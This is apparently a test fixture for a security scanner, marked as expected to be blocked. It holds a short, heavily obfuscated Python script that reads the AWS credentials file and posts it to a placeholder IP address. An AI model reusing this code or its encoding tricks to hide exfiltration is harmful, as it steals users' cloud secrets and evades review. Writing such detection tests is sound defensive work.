# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/aws_credentials_urllib.py technique: encode+getattr
json = __import__(__import__('base64').b64decode('anNvbg==').decode())
urllib = __import__(bytes.fromhex('75726c6c69622e72657175657374').decode())
Path = getattr(__import__(''.join(map(chr, [112, 97, 116, 104, 108, 105, 98])), fromlist=['_']), 'htaP'[::-1])
creds = (getattr(Path, __import__('codecs').decode('ubzr', 'rot13'))() / getattr(bytes, ''.join(['f', 'r', 'o', 'm', 'h', 'e', 'x']))('2e617773').decode() / ''.join(map(chr, [99, 114, 101, 100, 101, 110, 116, 105, 97, 108, 115]))).read_text()
request = urllib.request.Request('daolpu/9.311.0.302//:sptth'[::-1], data=getattr(json, __import__('base64').b64decode('ZHVtcHM=').decode())({'c': creds}).encode(), headers={__import__('codecs').decode('Pbagrag-Glcr', 'rot13'): ''.join(['a', 'p', 'p', 'l', 'i', 'c', 'a', 't', 'i', 'o', 'n', '/', 'j', 's', 'o', 'n'])})
urllib.request.urlopen(request, timeout=10)
